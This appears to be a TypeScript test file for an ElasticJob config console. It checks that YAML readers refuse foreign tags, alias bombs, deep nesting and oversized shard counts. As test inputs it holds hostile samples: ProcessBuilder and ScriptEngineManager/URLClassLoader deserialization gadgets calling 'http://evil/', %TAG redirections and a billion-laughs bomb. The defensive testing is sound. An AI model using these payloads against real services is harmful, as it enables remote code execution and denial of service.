/**
 * Issue 12 §1, §2, §7: what every config reader (console reads and edits, the worker) refuses before it
 * builds anything — foreign YAML tags, a second document, alias bombs, deep nesting — and the shard-count
 * limit, which the read model checks before it allocates per item.
 */
import { describe, expect, it } from 'vitest';
import { isMap, isPair, isSeq, parseAllDocuments } from 'yaml';
import { parseConfig, updateConfig } from './config';
import { jsonTextDeeperThan, valueDeeperThan, yamlTextDeeperThan } from './config-depth';
import { serializeConfig2x } from './config-json';
import { validateConfig, validateConfigText } from './config-schema';
import { serializeConfig3x } from './config-yaml';
import { ConfigError } from './errors';
import { explainJob } from './explain';
import { deriveJobSummary } from './job-summary';
import { deriveJobDetail } from './job-view';
import { MAX_CONFIG_DEPTH, MAX_SHARDING_TOTAL_COUNT } from './limits';
import { previewReshard } from './preview';
import { shard } from './sharding';
import { snapshotFromEntries } from './snapshot';

const V3 = serializeConfig3x({ jobName: 'pay', cron: '0/5 * * * * ?', shardingTotalCount: 3 });
const V2 = serializeConfig2x({ jobName: 'pay', cron: '0/5 * * * * ?', shardingTotalCount: 3 });

/** The ConfigError `fn` throws (fails the test when it throws anything else, or nothing). */
function configErrorOf(fn: () => unknown): ConfigError {
  let thrown: unknown = null;
  try {
    fn();
  } catch (err) {
    thrown = err;
  }
  expect(thrown, 'expected a ConfigError').toBeInstanceOf(ConfigError);
  return thrown as ConfigError;
}

describe('YAML tags: only core tags and ElasticJob’s own classes where ElasticJob writes them', () => {
  const tracing = (cls: string, storage = 'org.apache.shardingsphere.elasticjob.tracing.rdb.yaml.YamlDataSourceConfiguration') =>
    `${V3}jobExtraConfigurations:\n- !!${cls}\n  type: RDB\n  tracingStorageConfiguration: !!${storage}\n    dataSourceClassName: org.postgresql.ds.PGSimpleDataSource\n    props:\n      url: jdbc:postgresql://db/trace\n      maxPoolSize: 4\n`;

  it.each([
    ['3.0.5 tracing configuration', tracing('org.apache.shardingsphere.elasticjob.kernel.tracing.yaml.YamlTracingConfiguration')],
    ['3.0.0–3.0.4 tracing configuration', tracing('org.apache.shardingsphere.elasticjob.tracing.yaml.YamlTracingConfiguration')],
    ['3.0.5 root POJO', `!!org.apache.shardingsphere.elasticjob.kernel.internal.config.JobConfigurationPOJO\n${V3}`],
    ['3.0.0–3.0.4 root POJO', `!!org.apache.shardingsphere.elasticjob.infra.pojo.JobConfigurationPOJO\n${V3}`],
    ['!!str on label and on a props value (the interop test)', `${V3}label: !!str interop\nprops:\n  other: !!str 42\n`],
    [
      'every core tag',
      `${V3}props:\n  a: !!str x\n  b: !!int 5\n  c: !!float 1.5\n  d: !!bool true\n  e: !!null ~\n  f: !!map {x: 1}\n  g: !!seq [1]\n  h: !!binary aGVsbG8=\n  i: !!timestamp 2001-12-14\n  j: !!omap [x: 1]\n  k: !!pairs [x: 1]\n  l: !!set {x}\n`,
    ],
  ])('accepts %s', (_name, text) => {
    expect(() => parseConfig(text)).not.toThrow();
    expect(validateConfigText(text, { jobName: 'pay' }).ok).toBe(true);
  });

  it('keeps an accepted tag through an edit', () => {
    const text = tracing('org.apache.shardingsphere.elasticjob.kernel.tracing.yaml.YamlTracingConfiguration');
    const edited = updateConfig(text, { cron: '0/9 * * * * ?' });
    expect(edited).toContain('- !!org.apache.shardingsphere.elasticjob.kernel.tracing.yaml.YamlTracingConfiguration\n');
  });

  it.each([
    ['a class in props', `${V3}props:\n  x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]\n`, '!!javax.script.ScriptEngineManager', 'props.x', 'props'],
    ['a class as a type key', `${V3}jobErrorHandlerType: !!java.lang.ProcessBuilder [[sh, -c, id]]\n`, '!!java.lang.ProcessBuilder', 'jobErrorHandlerType', 'jobErrorHandlerType'],
    ['a local tag', `${V3}label: !foo x\n`, '!foo', 'label', 'label'],
    ['a verbatim foreign tag', `${V3}label: !<tag:yaml.org,2002:java.lang.ProcessBuilder> [id]\n`, '!!java.lang.ProcessBuilder', 'label', 'label'],
    ['a verbatim tag outside the YAML namespace', `${V3}label: !<tag:example.com,2000:x> y\n`, '!<tag:example.com,2000:x>', 'label', 'label'],
    ['the non-specific tag', `${V3}label: ! x\n`, '!', 'label', 'label'],
    ['a %TAG directive that redefines !!', `%TAG !! tag:evil.example,2000:\n---\n${V3}label: !!str x\n`, '!<tag:evil.example,2000:str>', 'label', 'label'],
    ['a %TAG handle onto a Java package', `%TAG !j! tag:yaml.org,2002:java.lang.\n---\n${V3}label: !j!ProcessBuilder [id]\n`, '!!java.lang.ProcessBuilder', 'label', 'label'],
    ['a tag on a key', `${V3}props:\n  ? !!java.lang.ProcessBuilder [id]\n  : v\n`, '!!java.lang.ProcessBuilder', 'props', 'props'],
    ['a class inside a list', `${V3}jobListenerTypes:\n- !!java.lang.ProcessBuilder [id]\n`, '!!java.lang.ProcessBuilder', 'jobListenerTypes[0]', 'jobListenerTypes'],
    [
      'ElasticJob’s tracing class outside jobExtraConfigurations',
      `${V3}props:\n  x: !!org.apache.shardingsphere.elasticjob.kernel.tracing.yaml.YamlTracingConfiguration {type: RDB}\n`,
      '!!org.apache.shardingsphere.elasticjob.kernel.tracing.yaml.YamlTracingConfiguration',
      'props.x',
      'props',
    ],
    [
      'another class of ElasticJob’s package (3.0.5’s own TagInspector would let it through)',
      `${V3}jobExtraConfigurations:\n- !!org.apache.shardingsphere.elasticjob.kernel.internal.config.JobConfigurationPOJO {}\n`,
      '!!org.apache.shardingsphere.elasticjob.kernel.internal.config.JobConfigurationPOJO',
      'jobExtraConfigurations[0]',
      'jobExtraConfigurations',
    ],
    ['a class at the root', `!!java.util.HashMap\n${V3}`, '!!java.util.HashMap', 'the document root', undefined],
  ])('refuses %s, naming the tag and where it is', (_name, text, tag, where, field) => {
    const err = configErrorOf(() => parseConfig(text));
    expect(err.message).toContain(`YAML tag ${tag} `);
    expect(err.message).toContain(where);
    expect(err.field).toBe(field);
    // The same check guards the edit path, which parses the stored text first.
    expect(configErrorOf(() => updateConfig(text, { cron: '0/9 * * * * ?' })).message).toContain(tag);
    expect(validateConfigText(text).ok).toBe(false);
  });
});

describe('YAML structure', () => {
  it('refuses a second document', () => {
    expect(configErrorOf(() => parseConfig(`${V3}---\njobName: other\n`)).message).toMatch(/must be one YAML document; this text has 2/);
    expect(configErrorOf(() => parseConfig(`${V3}...\n---\n!!java.lang.ProcessBuilder [id]\n`)).message).toMatch(/one YAML document/);
  });

  it('refuses a key twice in one map (readers disagree on which wins)', () => {
    const top = configErrorOf(() => parseConfig(`${V3}cron: 0/9 * * * * ?\n`));
    expect(top.message).toBe("cron: key 'cron' appears twice in the config");
    expect(configErrorOf(() => parseConfig(`${V3}props:\n  a: 1\n  a: 2\n`)).message).toBe("props: key 'a' appears twice in props");
    // Equal only when the parsed key is: 1 and '1' are two keys, as for the yaml package's own check.
    expect(parseConfig(`${V3}props:\n  1: a\n  '1': b\n`).values.props).toEqual({ 1: 'b' });
  });

  it('reports the first three syntax errors with their place, however many there are', () => {
    const err = configErrorOf(() => parseConfig(`${V3}props:\n  x: ${'b: '.repeat(2_000)}x\n`));
    expect(err.message).toMatch(/^config is not valid YAML: [^;]+ at line \d+, column \d+; [^;]+; [^;]+ \(and \d+ more\)$/);
    expect(err.message.length).toBeLessThan(1_000);
  });

  it('accepts one document with explicit markers', () => {
    expect(parseConfig(`---\n${V3}...\n`).values.jobName).toBe('pay');
  });

  it('refuses a billion-laughs alias bomb quickly, as a ConfigError', () => {
    const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 9; i++) {
      const prev = String.fromCharCode(96 + i);
      const name = String.fromCharCode(97 + i);
      lines.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(',')}]`);
    }
    const bomb = `${V3}props:\n${lines.map((l) => `  ${l}`).join('\n')}\n`;
    expect(configErrorOf(() => parseConfig(bomb)).message).toMatch(/aliases expand beyond the limit of 100/);
  });

  it('refuses an alias that contains itself (no JSON form; recursion in readers)', () => {
    expect(configErrorOf(() => parseConfig(`${V3}props:\n  x: &a [1, *a]\n`)).message).toMatch(/alias \*a at props\.x\[1\] refers to a map or list that contains it/);
    expect(configErrorOf(() => parseConfig(`${V3}props: &p\n  x: *p\n`)).field).toBe('props');
  });

  it('still reads a harmless alias', () => {
    expect(parseConfig(`${V3}props:\n  a: &v hello\n  b: *v\n`).values.props).toEqual({ a: 'hello', b: 'hello' });
  });
});

describe(`nesting deeper than ${MAX_CONFIG_DEPTH} levels is a ConfigError, never a RangeError or a crash`, () => {
  const flow = (open: string, close: string, n: number) => `${open.repeat(n)}${close.repeat(n)}`;
  it.each([
    ['YAML flow lists', `${V3}props:\n  x: ${flow('[', ']', 10_000)}\n`],
    ['YAML flow maps', `${V3}props:\n  x: ${flow('{a: ', '}', 10_000)}\n`],
    // 50,000 compact block levels made the yaml composer exhaust memory and abort the process.
    ['YAML block lists', `${V3}props:\n  x:\n  ${'- '.repeat(50_000)}x\n`],
    // This shape overflowed the yaml parser's stack (it recurses once per block level).
    ['YAML block lists at the root', `${V3.replace("jobParameter: ''\n", '')}jobParameter:\n${'- '.repeat(50_000)}x\n`],
    ['YAML block maps', `${V3}props:\n${Array.from({ length: 5_000 }, (_, k) => `${' '.repeat(k + 2)}k${k}:`).join('\n')} x\n`],
    ['unclosed YAML flow lists', `${V3}props:\n  x: ${'['.repeat(100_000)}\n`],
    ['JSON arrays', V2.replace('"jobParameter":""', `"jobParameter":${flow('[', ']', 10_000)}`)],
    ['JSON objects', V2.replace('"jobParameter":""', `"jobParameter":${flow('{"a":', '}', 10_000)}`)],
  ])('%s', (_name, text) => {
    expect(configErrorOf(() => parseConfig(text)).message).toBe(`the config nests maps and lists deeper than ${MAX_CONFIG_DEPTH} levels`);
    expect(validateConfigText(text).ok).toBe(false);
  });

  it('reads ElasticJob-shaped configs far below the bound, whatever brackets their strings hold', () => {
    const text = [
      'cron: 0/5 * * * * ?',
      "description: 'a [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[ it''s [[[['",
      'jobExtraConfigurations:',
      '- !!org.apache.shardingsphere.elasticjob.kernel.tracing.yaml.YamlTracingConfiguration',
      '  tracingStorageConfiguration: !!org.apache.shardingsphere.elasticjob.tracing.rdb.yaml.YamlDataSourceConfiguration',
      '    props:',
      '      url: jdbc:x # {{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{',
      '  type: RDB',
      'jobName: pay',
      'jobParameter: x[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[',
      'props:',
      '  script.command.line: |',
      `    ${'['.repeat(100)}`,
      `      ${'{'.repeat(100)}`,
      '  other: "quoted \\" [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["',
      'shardingTotalCount: 3',
      '',
    ].join('\n');
    expect(yamlTextDeeperThan(text, 12)).toBe(false);
    expect(parseConfig(text).values.jobName).toBe('pay');
  });

  it('bounds from above: block levels count at most twice, flow levels once', () => {
    expect(yamlTextDeeperThan('a: [[1]]', 4)).toBe(false);
    expect(yamlTextDeeperThan('a: [[1]]', 3)).toBe(true);
    // root map, list, map, list, map: five levels, each `- key:` opening two on one line.
    expect(yamlTextDeeperThan('a:\n- b:\n  - c: 1\n', 4)).toBe(true);
    expect(yamlTextDeeperThan('a:\n- b:\n  - c: 1\n', 10)).toBe(false);
    expect(yamlTextDeeperThan(`a:\n${'- '.repeat(70)}x\n`, 64)).toBe(true);
    expect(yamlTextDeeperThan(`a: "${'['.repeat(70)}"\n`, 64)).toBe(false);
    expect(yamlTextDeeperThan(`a: "\n${'['.repeat(70)}"\n`, 64)).toBe(false);
    expect(yamlTextDeeperThan(`--- ${'['.repeat(70)}${']'.repeat(70)}\n`, 64)).toBe(true);
    expect(yamlTextDeeperThan(`a: !!seq &x ${'['.repeat(70)}${']'.repeat(70)}\n`, 64)).toBe(true);
    expect(yamlTextDeeperThan(`a: [\n${'[\n'.repeat(70)}]`, 64)).toBe(true);
    // A block scalar holds only the lines indented past its parent node (here the inner list at column 2).
    expect(yamlTextDeeperThan(`a:\n- - |\n${' ['.repeat(70)}\n`, 64)).toBe(true);
    expect(yamlTextDeeperThan(`a:\n- - |\n   ${'['.repeat(70)}\n`, 64)).toBe(false);
    expect(yamlTextDeeperThan(`a: "x" ${'['.repeat(70)}\n`, 64)).toBe(true);
    expect(yamlTextDeeperThan(`a: *x ${'{'.repeat(70)}\n`, 64)).toBe(true);
    expect(yamlTextDeeperThan(`a: x ${'['.repeat(70)}\n`, 64)).toBe(false);
    expect(jsonTextDeeperThan('{"a":"[[[[","b":[1]}', 2)).toBe(false);
    expect(jsonTextDeeperThan('{"a":[[1]]}', 2)).toBe(true);
    expect(valueDeeperThan({ a: [[1]] }, 3)).toBe(false);
    expect(valueDeeperThan({ a: [[1]] }, 2)).toBe(true);
  });

  it('never counts low on valid YAML (a seeded random walk over YAML’s structural tokens)', () => {
    const tokens = ['- ', '? ', ': ', 'a', 'b: ', '[', ']', '{', '}', ', ', '"q"', "'s'", '"', "'", '*x', '&x ', '!!str ', '|', '>', '#c', '\n', '\n  ', '\n    ', '\n ', ' ', 'k: ', '---\n', 'x['];
    const depthOf = (root: unknown): number => {
      let max = 0;
      const stack: [unknown, number][] = [[root, 0]];
      while (stack.length > 0) {
        const [node, d] = stack.pop()!;
        if (!isMap(node) && !isSeq(node)) continue;
        max = Math.max(max, d + 1);
        for (const item of node.items) {
          if (isPair(item)) stack.push([item.key, d + 1], [item.value, d + 1]);
          else stack.push([item, d + 1]);
        }
      }
      return max;
    };
    let seed = 12345;
    const random = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
    const low: string[] = [];
    let checked = 0;
    for (let n = 0; n < 20_000; n++) {
      let text = '';
      for (let k = 3 + Math.floor(random() * 25); k > 0; k--) text += tokens[Math.floor(random() * tokens.length)];
      const docs = [...parseAllDocuments(text, { version: '1.1', uniqueKeys: false, prettyErrors: false })];
      if (docs.some((d) => d.errors.length > 0)) continue;
      const depth = Math.max(0, ...docs.map((d) => depthOf(d.contents)));
      if (depth === 0) continue;
      checked++;
      if (!yamlTextDeeperThan(text, depth - 1)) low.push(`${JSON.stringify(text)}: ${depth}`);
    }
    expect(checked).toBeGreaterThan(200);
    expect(low).toEqual([]);
  });

  it('the parsed value is held to the exact bound', () => {
    const nested = (levels: number) => `${V3}props:\n  x: ${'['.repeat(levels)}${']'.repeat(levels)}\n`;
    expect(() => parseConfig(nested(20))).not.toThrow();
    expect(() => parseConfig(nested(MAX_CONFIG_DEPTH))).toThrow(ConfigError);
  });

  it('an alias cannot nest a short text deeper than the limit', () => {
    const chain = ['a: &a [[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]'];
    for (let i = 1; i < 5; i++) chain.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [[[[[[[[[[[[[[[[[[[[*${String.fromCharCode(96 + i)}]]]]]]]]]]]]]]]]]]]]`);
    const text = `${V3}props:\n${chain.map((l) => `  ${l}`).join('\n')}\n`;
    expect(configErrorOf(() => parseConfig(text)).message).toMatch(/deeper than 64 levels/);
  });
});

describe('shardingTotalCount above the limit, wherever a config is read', () => {
  const HUGE = 1_000_000_000;

  it('validateConfig reports it on the field, for both flavours', () => {
    for (const text of [V3.replace('shardingTotalCount: 3', `shardingTotalCount: ${HUGE}`), V2.replace('"shardingTotalCount":3', `"shardingTotalCount":${HUGE}`)]) {
      const parsed = parseConfig(text);
      const check = validateConfig(parsed.values, { flavour: parsed.flavour });
      expect(check.ok).toBe(false);
      if (!check.ok) {
        expect(check.error.issues).toEqual([{ field: 'shardingTotalCount', message: `must be at most 10000 (${HUGE} is above the limit)` }]);
      }
    }
    const atLimit = parseConfig(V3.replace('shardingTotalCount: 3', `shardingTotalCount: ${MAX_SHARDING_TOTAL_COUNT}`));
    expect(validateConfig(atLimit.values, { flavour: atLimit.flavour }).ok).toBe(true);
  });

  const tree = (config: string) =>
    snapshotFromEntries([
      { path: '/pay', value: 'com.acme.PayJob' },
      { path: '/pay/config', value: config },
      { path: '/pay/servers/10.0.0.1', value: 'ENABLED' },
      { path: '/pay/instances/10.0.0.1@-@1', value: 'jobInstanceId: 10.0.0.1@-@1\n', ephemeralOwner: '7f' },
      { path: '/pay/sharding/0/instance', value: '10.0.0.1@-@1' },
      { path: '/pay/sharding/1/instance', value: '10.0.0.1@-@1' },
    ]);

  it('the job view shows it as invalid config, explained, and lists only the items the tree has', () => {
    const detail = deriveJobDetail(tree(V3.replace('shardingTotalCount: 3', `shardingTotalCount: ${HUGE}`)), 'pay');
    expect(detail.finerStatus).toBe('CONFIG_INVALID');
    expect(detail.shardingTotalCount).toBe(HUGE);
    expect(detail.items.map((i) => i.item)).toEqual([0, 1]);
    const text = `config invalid: shardingTotalCount: must be at most 10000 (${HUGE} is above the limit)`;
    expect(detail.warnings).toContainEqual({ code: 'CONFIG_INVALID', message: text });
    expect(deriveJobSummary(detail)).toMatchObject({ finerStatus: 'CONFIG_INVALID', shardingTotalCount: HUGE, error: text });
    const why = explainJob(detail);
    expect(why.summary.startsWith(`${text}. `)).toBe(true);
    expect(why.evidence[0]).toEqual({ path: '/pay/config', value: text });
    expect(previewReshard(detail)).toEqual({ available: ['10.0.0.1@-@1'], owners: new Map(), moved: [] });
    expect(previewReshard(detail, { total: HUGE }).owners.size).toBe(0);
  });

  it('sharding itself refuses such a count instead of building a list per item', () => {
    expect(() => shard('AVG_ALLOCATION', 'pay', ['a'], HUGE)).toThrow(/shardingTotalCount 1000000000 is above the limit 10000/);
    expect(shard('AVG_ALLOCATION', 'pay', ['a'], MAX_SHARDING_TOTAL_COUNT).get('a')).toHaveLength(MAX_SHARDING_TOTAL_COUNT);
  });

  it('a count given as a string is not allocated for either', () => {
    const detail = deriveJobDetail(tree(V3.replace('shardingTotalCount: 3', `shardingTotalCount: '${HUGE}'`)), 'pay');
    expect(detail.finerStatus).toBe('CONFIG_INVALID');
    expect(detail.items.map((i) => i.item)).toEqual([0, 1]);
  });

  it('an invalid cron or time zone shows as "config invalid: cron …" on the job', () => {
    const cron = deriveJobDetail(tree(V3.replace('0/5 * * * * ?', '0 0 2 1 * MON')), 'pay');
    expect(cron.finerStatus).toBe('CONFIG_INVALID');
    expect(explainJob(cron).summary).toMatch(/^config invalid: cron: .*day-of-month/);
    expect(deriveJobSummary(cron).error).toMatch(/^config invalid: cron: /);
    const zone = deriveJobDetail(tree(`${V3}timeZone: Mars/Olympus\n`), 'pay');
    expect(zone.finerStatus).toBe('CONFIG_INVALID');
    expect(explainJob(zone).summary).toMatch(/^config invalid: timeZone: 'Mars\/Olympus' is not a known IANA time zone\. /);
  });

  it('a config with a foreign tag shows as invalid, not as a failure of the view', () => {
    const detail = deriveJobDetail(tree(`${V3}label: !!java.lang.ProcessBuilder [id]\n`), 'pay');
    expect(detail.finerStatus).toBe('CONFIG_INVALID');
    expect(detail.error).toMatch(/YAML tag !!java\.lang\.ProcessBuilder at label is not allowed/);
    expect(deriveJobSummary(detail).error).toMatch(/^config invalid: label: YAML tag !!java\.lang\.ProcessBuilder at label/);
  });

  it('each config text is parsed once: later reads reuse the reading', () => {
    const text = `${V3}props:\n${Array.from({ length: 2_000 }, (_, k) => `  k${k}: v`).join('\n')}\n`;
    const first = deriveJobDetail(tree(text), 'pay');
    const second = deriveJobDetail(tree(text), 'pay');
    expect(second.config).toBe(first.config);
    expect(deriveJobDetail(tree(`${text}label: x\n`), 'pay').config).not.toBe(first.config);
  });

  it('a valid job stays OK', () => {
    const detail = deriveJobDetail(tree(V3), 'pay');
    expect(detail.finerStatus).not.toBe('CONFIG_INVALID');
    expect(deriveJobSummary(detail).error).toBeNull();
  });
});
